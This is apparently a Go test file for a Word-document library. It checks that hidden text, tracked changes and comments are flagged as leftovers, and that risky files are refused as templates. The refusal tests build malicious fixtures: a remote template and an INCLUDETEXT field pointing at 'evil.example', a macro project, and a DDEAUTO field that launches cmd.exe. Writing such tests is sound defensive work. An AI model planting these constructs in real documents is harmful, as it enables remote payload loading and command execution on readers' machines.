package docx

import (
	"bytes"
	"strings"
	"testing"

	"taizhang/sheets/ooxml"
)

// What a reading leaves out of a document nobody examines: it is said.
func TestLettersNobodyReadsAreLeftovers(t *testing.T) {
	hiddenStyle := func(p *ooxml.Package) {
		b, _ := p.Read("word/styles.xml")
		p.Set("word/styles.xml", bytes.Replace(b, []byte("</w:styles>"), []byte(`<w:style w:type="character" w:styleId="h"><w:rPr><w:vanish/></w:rPr></w:style></w:styles>`), 1))
	}
	for properties, want := range map[string]string{
		`<w:strike/>`:               struckText,
		`<w:dstrike/>`:              struckText,
		`<w:sz w:val="2"/>`:         tinyText,
		`<w:color w:val="ffffff"/>`: whiteText,
		`<w:color w:val="FEFEFE"/>`: whiteText,
		`<w:color w:val="F2F2F2" w:themeColor="background1" w:themeShade="F2"/>`: whiteText,
		`<w:color w:val="1F4E79"/><w:shd w:val="clear" w:fill="1f4e79"/>`:        whiteText,
		`<w:rStyle w:val="h"/>`:     hiddenText,
		`<w:specVanish/>`:           hiddenText,
		`<w:strike w:val="0"/>`:     "",
		`<w:color w:val="FF0000"/>`: "",
		`<w:color w:val="BFBFBF"/>`: "",
		`<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:fill="1F4E79"/>`: "",
	} {
		for text, want := range map[string]string{"120116198001011234": want, " ": ""} {
			left, err := Leftovers(withParts(t, func(p *ooxml.Package) {
				hiddenStyle(p)
				intoBody(p, `<w:r><w:rPr>`+properties+`</w:rPr><w:t>`+text+`</w:t></w:r>`)
			}))
			if got := strings.Join(left, "、"); err != nil || got != want {
				t.Errorf("%s %q: %q (%v), want %q", properties, text, got, err, want)
			}
		}
	}
}

// withParts is a plain document with something put into its parts.
func withParts(t *testing.T, change func(p *ooxml.Package)) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, (&Document{}).Add(P(Title, "标题"), P(Body, "正文。"))); err != nil {
		t.Fatal(err)
	}
	p, err := ooxml.Open(b.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	change(p)
	var out bytes.Buffer
	if err := p.Write(&out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func relate(p *ooxml.Package, part, kind, target, mode string) {
	p.AddRel(part, kind, target)
	b, _ := p.Read(ooxml.RelsPart(part))
	p.Set(ooxml.RelsPart(part), bytes.Replace(b, []byte(`Target="/`+target+`"`), []byte(`Target="`+target+`"`+mode), 1))
}

func intoBody(p *ooxml.Package, xml string) {
	b, _ := p.Read("word/document.xml")
	at := bytes.Index(b, []byte("</w:p>"))
	p.Set("word/document.xml", []byte(string(b[:at])+xml+string(b[at:])))
}

const rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

func TestRemoteTemplatesAreRefused(t *testing.T) {
	const outside = ` TargetMode="External"`
	for name, change := range map[string]func(p *ooxml.Package){
		"模板": func(p *ooxml.Package) {
			relate(p, "word/settings.xml", rel+"attachedTemplate", "http://evil.example/a.dotm", outside)
		},
		"别处": func(p *ooxml.Package) {
			relate(p, "word/document.xml", rel+"image", "http://evil.example/a.png", outside)
		},
		"取来": func(p *ooxml.Package) { relate(p, "word/document.xml", rel+"subDocument", "file:///c/a.docx", outside) },
		"宏": func(p *ooxml.Package) {
			relate(p, "word/document.xml", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", "")
		},
		"嵌入": func(p *ooxml.Package) { relate(p, "word/document.xml", rel+"aFChunk", "a.html", "") },
		"INC": func(p *ooxml.Package) {
			intoBody(p, `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "http://evil.example"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`)
		},
		"DDE": func(p *ooxml.Package) { intoBody(p, `<w:fldSimple w:instr="DDEAUTO c:\\windows\\cmd.exe /k"/>`) },
	} {
		_, err := ReadTemplate(withParts(t, change))
		if err == nil || !strings.Contains(err.Error(), "不能用作模板") || !strings.Contains(err.Error(), name) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := ReadTemplate(withParts(t, func(p *ooxml.Package) {
		relate(p, "word/document.xml", rel+"hyperlink", "http://example.org/", outside)
		intoBody(p, `<w:fldSimple w:instr=" PAGE "/>`)
	})); err != nil {
		t.Error(err)
	}
}

// Whatever bears the name of an editor is a change, of the page or a table too.
func TestEveryTrackedChangeIsALeftover(t *testing.T) {
	for _, change := range []string{
		`<w:sectPrChange w:id="1" w:author="王某某"><w:sectPr/></w:sectPrChange></w:sectPr>`,
		`</w:sectPr><w:tbl><w:tblPr><w:tblPrChange w:id="1" w:author="王某某"/></w:tblPr><w:tr><w:tc><w:tcPr><w:cellIns w:id="1" w:author="王某某"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>`,
	} {
		left, err := Leftovers(withParts(t, func(p *ooxml.Package) {
			b, _ := p.Read("word/document.xml")
			p.Set("word/document.xml", bytes.Replace(b, []byte("</w:sectPr>"), []byte(change), 1))
		}))
		if got := strings.Join(left, "、"); err != nil || got != "修订" {
			t.Errorf("%s: %q (%v)", change, got, err)
		}
	}
}

func TestLeftovers(t *testing.T) {
	for want, change := range map[string]func(p *ooxml.Package){
		"": func(*ooxml.Package) {},
		"修订": func(p *ooxml.Package) {
			intoBody(p, `<w:del w:id="1" w:author="a"><w:r><w:delText>秘密</w:delText></w:r></w:del>`)
		},
		"隐藏文字": func(p *ooxml.Package) { intoBody(p, `<w:r><w:rPr><w:vanish/></w:rPr><w:t>秘密</w:t></w:r>`) },
		"批注": func(p *ooxml.Package) {
			p.Set("word/comments.xml", []byte(`<w:comments xmlns:w="`+wordNS+`"><w:comment w:id="0"><w:p/></w:comment></w:comments>`))
			p.AddRel("word/document.xml", rel+"comments", "word/comments.xml")
		},
	} {
		tpl, err := ReadTemplate(withParts(t, change))
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.Join(tpl.Leftovers(), "、"); got != want {
			t.Errorf("%q, want %q", got, want)
		}
		left, err := Leftovers(withParts(t, change))
		if got := strings.Join(left, "、"); err != nil || got != want {
			t.Errorf("of a document: %q (%v), want %q", got, err, want)
		}
	}
}
